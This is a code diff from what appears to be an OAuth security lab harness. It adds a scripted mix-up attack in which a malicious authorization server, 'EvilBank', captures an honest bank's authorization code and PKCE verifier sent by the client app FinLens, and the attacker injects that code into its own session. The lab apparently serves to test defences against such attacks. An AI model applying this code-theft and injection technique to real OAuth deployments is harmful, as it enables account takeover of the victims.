@@ -24,15 +24,14 @@ from lab.web.request_id import HEADER
 
 from . import fixtures, forge
 from . import frontchannel as fc
-from .attack_context import AttackContext
+from .attack_context import AttackContext, serves_only_jwt
 from .victim import HttpVictim, VictimRefused
 
 
 def jarm_only(ctx: AttackContext) -> bool:
-    """The AS serves only JWT response modes (JARM on): an attacker who builds an
-    authorization request asks for one, as FinLens does, or the AS refuses it outright."""
-    modes = forge.as_metadata(ctx).get("response_modes_supported")
-    return isinstance(modes, list) and "jwt" in modes and "query" not in modes
+    """The honest AS serves only JWT response modes: an attacker who builds an authorization
+    request asks for one, as FinLens does, or the AS refuses it outright."""
+    return serves_only_jwt(forge.as_metadata(ctx))
 
 
 def response_fields(params: dict[str, str]) -> dict[str, str]:
@@ -180,7 +179,26 @@ def render_callback(victim: HttpVictim, callback_url: str) -> requests.Response:
     return last
 
 
-# --- the attacker's own link at EvilBank ------------------------------------------------------
+# --- EvilBank ----------------------------------------------------------------------------------
+def code_sent_to_evilbank(ctx: AttackContext, fx: fixtures.Fixtures, since: int) -> None:
+    """The lured victim links EvilBank (its plan already set); FinLens redeems the honest
+    bank's code at EvilBank's token endpoint, and the attacker injects it into its own
+    FinLens session. EvilBank's plan is reset however the victim's flow ends."""
+    try:
+        victim = ctx.victim("alice")
+        victim.link(fixtures.EVILBANK_ID)
+        redeemed = [r for r in evil_received(ctx, fx, since, "/token") if r.form().get("code")]
+    finally:
+        fx.evil_plan()
+    if not redeemed:
+        ctx.failed("FinLens sent no code to EvilBank")
+    form = redeemed[-1].form()
+    ctx.step("attacker", "EvilBank's token endpoint received the honest bank's code"
+             + (" and its PKCE verifier" if form.get("code_verifier") else ""))
+    inject_code(ctx, form["code"], victim.username, iss=ctx.config.issuer,
+                source="FinLens sent to EvilBank")
+
+
 def link_evilbank(ctx: AttackContext, browser: fc.AttackerBrowser, *,
                   follow: bool = True) -> requests.Response | None:
     """"Link EvilBank" in the attacker's FinLens account. EvilBank answers at once (its customer
